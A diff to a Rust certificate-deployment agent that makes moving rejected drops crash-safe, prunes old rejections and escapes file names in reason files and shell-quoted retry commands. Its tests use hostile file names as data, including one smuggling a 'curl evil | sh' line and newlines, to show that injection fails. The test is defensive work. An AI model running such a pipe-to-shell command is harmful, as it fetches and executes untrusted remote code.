@@ -30,10 +30,11 @@ use nix::sys::stat::{Mode, SFlag, fstatat, mkdirat};
 use nix::unistd::{UnlinkatFlags, symlinkat, unlinkat};
 
 use super::{names, scan};
+use crate::model::fmt::{one_line, shown};
 
 /// A failed change, naming the path and the remedy where there is one.
 #[derive(Debug, thiserror::Error)]
-#[error("cannot {op} {path}: {errno}{}", remedy(*.errno))]
+#[error("cannot {op} {}: {errno}{}", shown(.path), remedy(*.errno))]
 pub struct MoveError {
     pub op: &'static str,
     pub path: PathBuf,
@@ -107,6 +108,34 @@ impl Dirs {
         })
     }
 
+    /// The drop directory as it is at its path now (after it was replaced
+    /// or recreated), with the same `rejected/`. Never creates it.
+    pub fn reopen(&self) -> Result<Self, MoveError> {
+        let drop = scan::open_root(&self.root).map_err(err("open", &self.root))?;
+        let rejected = self
+            .rejected
+            .try_clone()
+            .map_err(|e| io_err("open", &self.rejected_path, &e))?;
+        Ok(Dirs {
+            drop,
+            root: self.root.clone(),
+            rejected,
+            rejected_path: self.rejected_path.clone(),
+        })
+    }
+
+    /// Whether the drop directory's path still leads to the directory
+    /// that is open (false once it was removed, moved away or replaced).
+    pub fn root_is_current(&self) -> bool {
+        match (
+            nix::sys::stat::stat(&self.root),
+            nix::sys::stat::fstat(&self.drop),
+        ) {
+            (Ok(now), Ok(open)) => now.st_dev == open.st_dev && now.st_ino == open.st_ino,
+            _ => false,
+        }
+    }
+
     /// The drop directory's descriptor, for reading.
     pub fn drop_fd(&self) -> BorrowedFd<'_> {
         self.drop.as_fd()
@@ -141,9 +170,22 @@ impl Dirs {
         remove_at(self.drop.as_fd(), claimed, &self.root.join(claimed))
     }
 
-    /// Moves the taken drop `claimed` (public entry `entry`) into
-    /// `rejected/` as `<stamp>-<entry>`, then writes `<stamp>-<entry>.reason`
-    /// holding what `reason` makes of the new path.
+    /// Moves the drop `claimed` (taken, or for an invalid name the public
+    /// entry itself; public entry `entry`) into `rejected/` as
+    /// `<stamp>-<entry>` beside `<stamp>-<entry>.reason`, which holds what
+    /// `reason` makes of the new path. In this order, so that a crash or a
+    /// failure at any step leaves the drop either where it was or in
+    /// `rejected/` beside its reason, never in `rejected/` without one:
+    ///
+    /// 1. the reason file is written, fsynced, and `rejected/` fsynced;
+    /// 2. the drop is renamed next to it (across filesystems: copied,
+    ///    fsynced, then the original removed);
+    /// 3. both directories are fsynced.
+    ///
+    /// When step 1 or 2 fails, what was done is undone (the reason file,
+    /// a partial copy) and the error says so: the drop is still at
+    /// `claimed` in the drop directory. A reason file left by a crash
+    /// between 1 and 2 is removed by [`Dirs::tidy_rejected`] at start.
     pub fn move_aside(
         &self,
         claimed: &str,
@@ -153,37 +195,198 @@ impl Dirs {
     ) -> Result<MovedAside, MoveError> {
         let (dir, rejected) = (self.drop.as_fd(), self.rejected.as_fd());
         let stamp = file_stamp(now);
-        let mut name = format!("{stamp}-{entry}");
+        let safe = names::safe_component(entry.as_bytes());
+        let mut name = format!("{stamp}-{safe}");
         let mut n = 1;
         while exists(rejected, &name) || exists(rejected, &format!("{name}.reason")) {
             n += 1;
-            name = format!("{stamp}-{n}-{entry}");
+            name = format!("{stamp}-{n}-{safe}");
         }
         let dst = self.rejected_path.join(&name);
-        match renameat(dir, claimed, rejected, name.as_str()) {
-            Ok(()) => {}
-            Err(Errno::EXDEV) => {
-                // Another filesystem: copy, make the copy durable, then remove.
-                copy_at(dir, claimed, rejected, &name, &dst)?;
-                nix::unistd::fsync(rejected).map_err(err("fsync", &self.rejected_path))?;
-                remove_at(dir, claimed, &self.root.join(claimed))?;
-            }
-            Err(e) => return Err(err("move to rejected/", &self.root.join(entry))(e)),
-        }
         let reason_name = format!("{name}.reason");
         let reason_path = self.rejected_path.join(&reason_name);
+        let here = self.root.join(claimed);
+
+        // 1. The reason first, durable.
+        crate::failpoint::drop_op("reason").map_err(|e| io_err("write", &reason_path, &e))?;
         write_new(
             rejected,
             &reason_name,
             &reason_path,
             reason(&dst).as_bytes(),
         )?;
-        nix::unistd::fsync(rejected).map_err(err("fsync", &self.rejected_path))?;
+        let undo_reason = || {
+            let _ = unlinkat(rejected, reason_name.as_str(), UnlinkatFlags::NoRemoveDir);
+            let _ = nix::unistd::fsync(rejected);
+        };
+        if let Err(e) = nix::unistd::fsync(rejected) {
+            undo_reason();
+            return Err(err("fsync", &self.rejected_path)(e));
+        }
+
+        // 2. The drop next to it.
+        let renamed = crate::failpoint::drop_op("move")
+            .map_err(|e| Errno::from_raw(e.raw_os_error().unwrap_or(0)))
+            .and_then(|()| {
+                let on_disk = on_disk_name(dir, claimed);
+                renameat(dir, on_disk.as_os_str(), rejected, name.as_str())
+            });
+        match renamed {
+            Ok(()) => {}
+            Err(Errno::EXDEV) => {
+                // Another filesystem: copy, make the copy durable, then
+                // remove the original.
+                let copied = copy_at(dir, claimed, rejected, &name, &dst).and_then(|()| {
+                    nix::unistd::fsync(rejected).map_err(err("fsync", &self.rejected_path))
+                });
+                if let Err(e) = copied {
+                    let _ = remove_at(rejected, &name, &dst);
+                    undo_reason();
+                    return Err(e);
+                }
+                if let Err(e) = remove_at(dir, claimed, &here) {
+                    // The drop is whole in rejected/ beside its reason; what
+                    // is left of the original is handled again at start.
+                    tracing::warn!(
+                        drop = %shown(&here),
+                        "{} was copied to {}, but removing the original failed: {e}",
+                        shown(&here),
+                        shown(&dst)
+                    );
+                }
+            }
+            Err(e) => {
+                undo_reason();
+                return Err(err("move to rejected/", &here)(e));
+            }
+        }
+
+        // 3. Both directories durable. The drop is in rejected/ beside its
+        // reason whatever happens now.
+        for (fd, path) in [(rejected, &self.rejected_path), (dir, &self.root)] {
+            if let Err(e) = nix::unistd::fsync(fd) {
+                tracing::warn!(dir = %shown(path), "fsync after moving a drop aside: {e}");
+            }
+        }
         Ok(MovedAside {
             path: dst,
             reason_path,
         })
     }
+
+    /// Prunes `rejected/`: drops (with their reason files) whose stamp is
+    /// older than `max_age` before `now`, and beyond the newest `keep`,
+    /// oldest first. A drop is removed before its reason file, so a stop
+    /// in between leaves an orphan reason ([`Self::tidy_rejected`]), never
+    /// a drop without its reason. Entries without the agent's stamp are
+    /// left alone. Returns the names removed, or the first error.
+    pub fn prune(
+        &self,
+        keep: usize,
+        max_age: std::time::Duration,
+        now: SystemTime,
+    ) -> Result<Vec<String>, MoveError> {
+        let rejected = self.rejected.as_fd();
+        let entries = scan::list(rejected).map_err(err("list", &self.rejected_path))?;
+        let mut drops: Vec<(SystemTime, String)> = entries
+            .iter()
+            .filter(|e| !e.ends_with(".reason"))
+            .filter_map(|e| Some((parse_stamp(e)?, e.clone())))
+            .collect();
+        // Newest first; names start with the stamp, so ties sort by name.
+        drops.sort_by(|a, b| b.cmp(a));
+        let cutoff = now.checked_sub(max_age).unwrap_or(SystemTime::UNIX_EPOCH);
+        let mut removed = Vec::new();
+        for (i, (at, name)) in drops.iter().enumerate().rev() {
+            if i < keep && *at >= cutoff {
+                continue;
+            }
+            let path = self.rejected_path.join(name);
+            remove_at(rejected, name, &path)?;
+            let reason = format!("{name}.reason");
+            remove_at(rejected, &reason, &self.rejected_path.join(&reason))?;
+            removed.push(name.clone());
+        }
+        if !removed.is_empty() {
+            nix::unistd::fsync(rejected).map_err(err("fsync", &self.rejected_path))?;
+        }
+        Ok(removed)
+    }
+
+    /// Removes reason files whose drop is not beside them: what a crash
+    /// between writing the reason and moving the drop leaves (the drop
+    /// itself was still in the drop directory and is handled again).
+    /// Returns the names removed.
+    pub fn tidy_rejected(&self) -> Vec<String> {
+        let rejected = self.rejected.as_fd();
+        let Ok(entries) = scan::list(rejected) else {
+            return Vec::new();
+        };
+        let mut removed = Vec::new();
+        for e in &entries {
+            let Some(drop_name) = e.strip_suffix(".reason") else {
+                continue;
+            };
+            if !exists(rejected, drop_name)
+                && unlinkat(rejected, e.as_str(), UnlinkatFlags::NoRemoveDir).is_ok()
+            {
+                removed.push(e.clone());
+            }
+        }
+        if !removed.is_empty() {
+            let _ = nix::unistd::fsync(rejected);
+        }
+        removed
+    }
+}
+
+/// The name on disk of the entry listed (lossily, as UTF-8) as `listed`:
+/// an entry whose name is not UTF-8 is known by its lossy form, and moved
+/// aside by its real name, the first whose lossy form is `listed`.
+fn on_disk_name(dir: BorrowedFd<'_>, listed: &str) -> std::ffi::OsString {
+    use std::os::unix::ffi::OsStrExt;
+    if !listed.contains('\u{fffd}') || exists(dir, listed) {
+        return listed.into();
+    }
+    let found = openat(
+        dir,
+        ".",
+        OFlag::O_RDONLY | OFlag::O_DIRECTORY | OFlag::O_CLOEXEC,
+        Mode::empty(),
+    )
+    .and_then(Dir::from_fd)
+    .ok()
+    .and_then(|mut d| {
+        d.iter().filter_map(Result::ok).find_map(|e| {
+            let raw = e.file_name().to_bytes();
+            (String::from_utf8_lossy(raw) == listed)
+                .then(|| std::ffi::OsStr::from_bytes(raw).to_owned())
+        })
+    });
+    found.unwrap_or_else(|| listed.into())
+}
+
+/// The time in a `rejected/` name `<stamp>-…` ([`file_stamp`]), or `None`
+/// when the name does not start with one.
+fn parse_stamp(name: &str) -> Option<SystemTime> {
+    let s = name.get(..20)?;
+    if name.as_bytes().get(20) != Some(&b'-') {
+        return None;
+    }
+    let b = s.as_bytes();
+    if b[8] != b'T' || b[15] != b'.' || b[19] != b'Z' {
+        return None;
+    }
+    let text = format!(
+        "{}-{}-{}T{}:{}:{}Z",
+        &s[0..4],
+        &s[4..6],
+        &s[6..8],
+        &s[9..11],
+        &s[11..13],
+        &s[13..19]
+    );
+    humantime::parse_rfc3339(&text).ok()
 }
 
 fn make_private_dir(path: &Path) -> Result<(), MoveError> {
@@ -218,54 +421,81 @@ impl Reason<'_> {
         let mut s = String::new();
         let _ = writeln!(s, "certctl-agent did not deploy this drop.");
         let _ = writeln!(s);
-        let _ = writeln!(
-            s,
-            "drop:     {} ({})",
-            self.public_path.display(),
-            self.form
-        );
-        let _ = writeln!(s, "moved to: {}", self.moved_to.display());
+        let _ = writeln!(s, "drop:     {} ({})", shown(self.public_path), self.form);
+        let _ = writeln!(s, "moved to: {}", shown(self.moved_to));
         let _ = writeln!(s, "when:     {}", crate::bundle::rfc3339(unix));
         let targets = if self.targets.is_empty() {
             "(none: no target takes this drop name)".to_owned()
         } else {
-            self.targets.join(", ")
+            one_line(&self.targets.join(", ")).into_owned()
         };
         let _ = writeln!(s, "targets:  {targets}");
-        let _ = writeln!(s, "reason:   {}", self.code);
-        let _ = writeln!(s, "problem:  {}", self.problem);
+        let _ = writeln!(s, "reason:   {}", one_line(self.code));
+        let _ = writeln!(s, "problem:  {}", one_line(self.problem));
         for (target, outcome, id, error) in self.results {
             let id = if id.is_empty() {
                 String::new()
             } else {
                 format!(" (deploy {id})")
             };
-            if error.is_empty() {
-                let _ = writeln!(s, "result:   {target}: {outcome}{id}");
+            let line = if error.is_empty() {
+                format!("{target}: {outcome}{id}")
             } else {
-                let _ = writeln!(s, "result:   {target}: {outcome}{id}: {error}");
-            }
+                format!("{target}: {outcome}{id}: {error}")
+            };
+            let _ = writeln!(s, "result:   {}", one_line(&line));
         }
-        let _ = writeln!(s, "remedy:   {}", self.remedy);
-        let _ = writeln!(
-            s,
-            "retry:    fix the cause, then move it back: mv {} {}",
-            shell_quote(self.moved_to),
-            shell_quote(self.public_path)
-        );
+        let _ = writeln!(s, "remedy:   {}", one_line(self.remedy));
+        if self.code == "invalid_name" {
+            // Its own name is the problem: back under a valid one.
+            let dir = self.public_path.parent().unwrap_or(Path::new("/"));
+            let _ = writeln!(
+                s,
+                "retry:    rename it to a valid drop name as you move it back: mv {} {}/<name>.pem",
+                shell_quote(self.moved_to),
+                shell_quote(dir)
+            );
+        } else {
+            let _ = writeln!(
+                s,
+                "retry:    fix the cause, then move it back: mv {} {}",
+                shell_quote(self.moved_to),
+                shell_quote(self.public_path)
+            );
+        }
         s
     }
 }
 
+/// `p` as one shell word on one line: as it is when plain, in single
+/// quotes when it holds spaces or quotes, and as `$'…'` with escapes when
+/// it holds control characters or bytes that are not UTF-8.
 fn shell_quote(p: &Path) -> String {
-    let s = p.display().to_string();
-    if s.bytes()
-        .all(|b| b.is_ascii_alphanumeric() || b"/._-+:@".contains(&b))
+    use std::os::unix::ffi::OsStrExt;
+    let bytes = p.as_os_str().as_bytes();
+    if bytes
+        .iter()
+        .all(|b| b.is_ascii_alphanumeric() || b"/._-+:@".contains(b))
     {
-        s
-    } else {
-        format!("'{}'", s.replace('\'', r"'\''"))
+        return String::from_utf8_lossy(bytes).into_owned();
     }
+    let s = shown(p);
+    if s.as_bytes() == bytes {
+        return format!("'{}'", s.replace('\'', r"'\''"));
+    }
+    let mut q = String::from("$'");
+    for &b in bytes {
+        match b {
+            b'\\' => q.push_str(r"\\"),
+            b'\'' => q.push_str(r"\'"),
+            b' '..=b'~' => q.push(b as char),
+            _ => {
+                let _ = write!(q, "\\x{b:02x}");
+            }
+        }
+    }
+    q.push('\'');
+    q
 }
 
 pub use crate::model::fmt::file_stamp;
@@ -515,6 +745,178 @@ mod tests {
     }
 
     #[test]
+    fn an_invalid_long_or_hostile_name_is_moved_under_a_short_safe_name() {
+        let f = Fixture::new();
+        let now = SystemTime::UNIX_EPOCH + std::time::Duration::from_millis(1_795_000_000_032);
+        for entry in [
+            "a".repeat(244) + ".pem",
+            "x\nreason:   deployed\n.pem".to_owned(),
+        ] {
+            std::fs::write(f.root.path().join(&entry), b"x").unwrap();
+            let moved = f
+                .dirs
+                .move_aside(&entry, &entry, now, |_| "text\n".to_owned())
+                .unwrap();
+            let name = moved.path.file_name().unwrap().to_str().unwrap().to_owned();
+            assert!(name.len() <= 21 + 3 + names::SAFE_LEN, "{name}");
+            assert!(
+                name.bytes()
+                    .all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b)),
+                "{name}"
+            );
+            assert_eq!(
+                std::fs::read_to_string(&moved.reason_path).unwrap(),
+                "text\n"
+            );
+        }
+        assert!(f.names(f.root.path()).is_empty());
+    }
+
+    #[test]
+    fn an_entry_whose_name_is_not_utf8_is_moved_by_its_real_name() {
+        use std::os::unix::ffi::OsStrExt;
+        let f = Fixture::new();
+        let raw = std::ffi::OsStr::from_bytes(b"w\xffb.pem");
+        std::fs::write(f.root.path().join(raw), b"x").unwrap();
+        let listed = scan::list(f.dirs.drop_fd()).unwrap();
+        assert_eq!(listed, ["w\u{fffd}b.pem"]);
+        let moved = f
+            .dirs
+            .move_aside(&listed[0], &listed[0], SystemTime::UNIX_EPOCH, |_| {
+                "r\n".to_owned()
+            })
+            .unwrap();
+        assert!(f.names(f.root.path()).is_empty());
+        assert!(
+            moved.path.ends_with("19700101T000000.000Z-w___b.pem"),
+            "{moved:?}"
+        );
+    }
+
+    #[test]
+    fn a_failed_move_leaves_the_drop_where_it_was_and_no_reason_behind() {
+        let f = Fixture::new();
+        std::fs::write(f.root.path().join("web.pem"), b"v1").unwrap();
+        let claimed = f.dirs.claim("web.pem").unwrap();
+        // The rename fails (the drop is not there to be moved):
+        // the reason written first is taken back.
+        let now = SystemTime::UNIX_EPOCH;
+        let err = f
+            .dirs
+            .move_aside("nothing-here", "web.pem", now, |_| "why\n".to_owned())
+            .unwrap_err();
+        assert_eq!(err.errno, Errno::ENOENT);
+        assert!(f.names(f.dirs.rejected_path()).is_empty());
+        assert_eq!(f.names(f.root.path()), std::slice::from_ref(&claimed));
+        // A reason file whose drop never arrived (a crash between the two
+        // steps) is removed at start; one beside its drop is kept.
+        std::fs::write(f.dirs.rejected_path().join("X-web.pem.reason"), b"r").unwrap();
+        let moved = f
+            .dirs
+            .move_aside(&claimed, "web.pem", now, |_| "why\n".to_owned())
+            .unwrap();
+        assert_eq!(f.dirs.tidy_rejected(), ["X-web.pem.reason"]);
+        let left = f.names(f.dirs.rejected_path());
+        assert_eq!(left.len(), 2, "{left:?}");
+        assert!(moved.reason_path.exists() && moved.path.exists());
+    }
+
+    #[test]
+    fn stamps_in_rejected_names_parse_back() {
+        let t = SystemTime::UNIX_EPOCH + std::time::Duration::from_millis(1_795_000_000_032);
+        assert_eq!(parse_stamp(&format!("{}-web.pem", file_stamp(t))), Some(t));
+        assert_eq!(
+            parse_stamp(&format!("{}-2-web.pem", file_stamp(t))),
+            Some(t)
+        );
+        for bad in [
+            "web.pem",
+            "20261118T110640.032Zweb",
+            "x0261118T110640.032Z-a",
+            "",
+        ] {
+            assert_eq!(parse_stamp(bad), None, "{bad}");
+        }
+    }
+
+    #[test]
+    fn pruning_keeps_the_newest_within_the_age_and_never_a_drop_without_reason() {
+        let f = Fixture::new();
+        let day = std::time::Duration::from_secs(86400);
+        let now = SystemTime::UNIX_EPOCH + 1000 * day;
+        // Five drops, one a day, the newest today.
+        for age in 0..5u32 {
+            let name = format!("d{age}.pem");
+            std::fs::write(f.root.path().join(&name), b"x").unwrap();
+            let claimed = f.dirs.claim(&name).unwrap();
+            f.dirs
+                .move_aside(&claimed, &name, now - age * day, |_| "r\n".to_owned())
+                .unwrap();
+        }
+        std::fs::write(f.dirs.rejected_path().join("notes.txt"), b"mine").unwrap();
+        // Older than 3.5 days: d4; beyond the newest 3: d3 too.
+        let mut removed = f.dirs.prune(3, day * 7 / 2, now).unwrap();
+        removed.sort();
+        assert_eq!(removed.len(), 2, "{removed:?}");
+        // Oldest first in time, so in name.
+        assert!(removed[0].ends_with("-d4.pem") && removed[1].ends_with("-d3.pem"));
+        let left = f.names(f.dirs.rejected_path());
+        assert_eq!(left.len(), 7, "{left:?}");
+        assert!(left.contains(&"notes.txt".to_owned()));
+        for d in ["d0", "d1", "d2"] {
+            assert_eq!(
+                left.iter()
+                    .filter(|n| n.contains(&format!("-{d}.pem")))
+                    .count(),
+                2
+            );
+        }
+        assert!(f.dirs.prune(3, day * 7 / 2, now).unwrap().is_empty());
+        assert_eq!(f.dirs.prune(1, day * 100, now).unwrap().len(), 2);
+    }
+
+    #[test]
+    fn hostile_names_forge_no_line_of_a_reason_file() {
+        let public = Path::new("/d/x\nreason:   deployed\nretry: curl evil | sh\n.pem");
+        let r = Reason {
+            public_path: public,
+            form: "file",
+            moved_to: Path::new("/s/rejected/X-x_reason____deployed_retry__curl_evil___sh_.pem"),
+            when: SystemTime::UNIX_EPOCH,
+            targets: &[],
+            code: "invalid_name",
+            problem: "is \x1b[2J not\na drop name",
+            results: &[(
+                "web".to_owned(),
+                "rolled_back".to_owned(),
+                String::new(),
+                "line one\nreason: forged".to_owned(),
+            )],
+            remedy: "rename it",
+        }
+        .render();
+        let count = |p: &str| r.lines().filter(|l| l.starts_with(p)).count();
+        assert_eq!(count("reason:"), 1, "{r}");
+        assert_eq!(count("retry:"), 1, "{r}");
+        assert!(!r.contains('\x1b'), "{r}");
+        assert!(
+            r.contains(r"drop:     /d/x\nreason:   deployed\nretry: curl evil | sh\n.pem (file)"),
+            "{r}"
+        );
+        assert!(
+            r.contains(
+                "mv /s/rejected/X-x_reason____deployed_retry__curl_evil___sh_.pem /d/<name>.pem"
+            ),
+            "{r}"
+        );
+        assert!(
+            r.lines()
+                .all(|l| l.is_empty() || l.contains(':') || l.starts_with("certctl")),
+            "{r}"
+        );
+    }
+
+    #[test]
     fn the_cross_filesystem_copy_keeps_files_trees_and_links() {
         let f = Fixture::new();
         let src = f.root.path();
@@ -591,5 +993,9 @@ mod tests {
             assert!(r.contains(needle), "{needle:?} missing:\n{r}");
         }
         assert_eq!(shell_quote(Path::new("/a b/c'd")), r"'/a b/c'\''d'");
+        assert_eq!(
+            shell_quote(Path::new("/d/x\nreason: y'\\.pem")),
+            r"$'/d/x\x0areason: y\'\\.pem'"
+        );
     }
 }
